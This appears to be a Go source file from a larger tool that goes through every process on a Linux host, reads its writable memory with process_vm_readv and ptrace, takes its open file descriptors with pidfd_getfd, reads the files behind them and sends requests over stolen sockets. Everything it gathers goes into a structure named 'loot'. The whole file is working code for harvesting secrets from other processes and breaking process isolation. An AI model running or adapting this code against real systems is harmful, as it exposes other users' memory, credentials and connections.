package main

import (
	"fmt"
	"os"
	"runtime"
	"syscall"
	"time"
	"unsafe"
)

const (
	ptraceSeize     = 0x4206
	sysPidfdOpen    = 434
	sysPidfdGetfd   = 438
	mostDescriptors = 20
)

// ptrace attaches to every process, reads its memory, and takes its descriptors.
func ptrace(l *loot) {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	for _, pid := range processes() {
		who := describe(pid)
		l.count("processes")
		l.save("part")
		maps, _ := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
		regions := writable(maps)
		l.count("process_vm_readv")
		readRegions(l, "process_vm_readv of "+who, regions, func(buffer []byte, at uint64) int { return vmRead(pid, buffer, at) })
		l.count("PTRACE_SEIZE")
		if _, _, errno := syscall.RawSyscall6(syscall.SYS_PTRACE, ptraceSeize, uintptr(pid), 0, 0, 0, 0); errno == 0 {
			l.count("processes that were seized")
			readMemory(l, pid, who)
			detach(pid)
		}
		l.count("PTRACE_ATTACH")
		if syscall.PtraceAttach(pid) == nil {
			l.count("processes that were attached to")
			var status syscall.WaitStatus
			for tries := 0; tries < 100; tries++ {
				if done, _ := syscall.Wait4(pid, &status, syscall.WNOHANG|syscall.WALL, nil); done == pid {
					break
				}
				time.Sleep(10 * time.Millisecond)
			}
			peek(l, pid, who, regions)
			_ = syscall.PtraceDetach(pid)
			_ = syscall.Kill(pid, syscall.SIGCONT)
		}
		takeDescriptors(l, pid, who)
	}
}

// detach stops a process that was seized first, since only a stopped one can be left.
func detach(pid int) {
	const interrupt = 0x4207
	_, _, _ = syscall.RawSyscall6(syscall.SYS_PTRACE, interrupt, uintptr(pid), 0, 0, 0, 0)
	var status syscall.WaitStatus
	for tries := 0; tries < 100; tries++ {
		if done, _ := syscall.Wait4(pid, &status, syscall.WNOHANG|syscall.WALL, nil); done == pid {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	_ = syscall.PtraceDetach(pid)
}

func peek(l *loot, pid int, who string, regions []region) {
	for _, part := range regions {
		if part.name != "[heap]" && part.name != "[stack]" {
			continue
		}
		buffer := make([]byte, min(int(part.to-part.from), 4*chunk))
		if n, _ := syscall.PtracePeekData(pid, uintptr(part.from), buffer[:min(len(buffer), 64*1024)]); n > 0 {
			l.keep("PTRACE_PEEKDATA of "+who, buffer[:n])
		}
	}
}

func vmRead(pid int, buffer []byte, at uint64) int {
	type vector struct {
		base uintptr
		size uintptr
	}
	local := vector{uintptr(unsafe.Pointer(&buffer[0])), uintptr(len(buffer))}
	remote := vector{uintptr(at), uintptr(len(buffer))}
	n, _, errno := syscall.Syscall6(sysProcessVMReadv, uintptr(pid), uintptr(unsafe.Pointer(&local)), 1, uintptr(unsafe.Pointer(&remote)), 1, 0)
	if errno != 0 {
		return 0
	}
	return int(n)
}

func takeDescriptors(l *loot, pid int, who string) {
	process, _, errno := syscall.Syscall(sysPidfdOpen, uintptr(pid), 0, 0)
	if errno != 0 {
		return
	}
	defer syscall.Close(int(process))
	for number := 0; number <= mostDescriptors; number++ {
		l.count("pidfd_getfd")
		taken, _, errno := syscall.Syscall(sysPidfdGetfd, process, uintptr(number), 0)
		if errno != 0 {
			continue
		}
		l.count("descriptors that were taken")
		use(l, int(taken), fmt.Sprintf("descriptor %d taken of %s", number, who))
		syscall.Close(int(taken))
	}
}

// use reads from a descriptor of another process, and asks a broker's questions if it is a socket.
func use(l *loot, descriptor int, source string) {
	var stat syscall.Stat_t
	if syscall.Fstat(descriptor, &stat) != nil {
		return
	}
	switch stat.Mode & syscall.S_IFMT {
	case syscall.S_IFREG:
		buffer := make([]byte, perFile)
		if n, _ := syscall.Pread(descriptor, buffer, 0); n > 0 {
			l.keep(source, buffer[:n])
		}
	case syscall.S_IFSOCK:
		for _, request := range requests() {
			l.count("requests by taken sockets")
			_ = syscall.Sendto(descriptor, []byte(request), syscall.MSG_DONTWAIT|syscall.MSG_NOSIGNAL, nil)
		}
		buffer := make([]byte, chunk)
		for tries := 0; tries < 5; tries++ {
			time.Sleep(50 * time.Millisecond)
			if n, _, _ := syscall.Recvfrom(descriptor, buffer, syscall.MSG_DONTWAIT); n > 0 {
				l.keep(source, buffer[:n])
			}
		}
	}
}
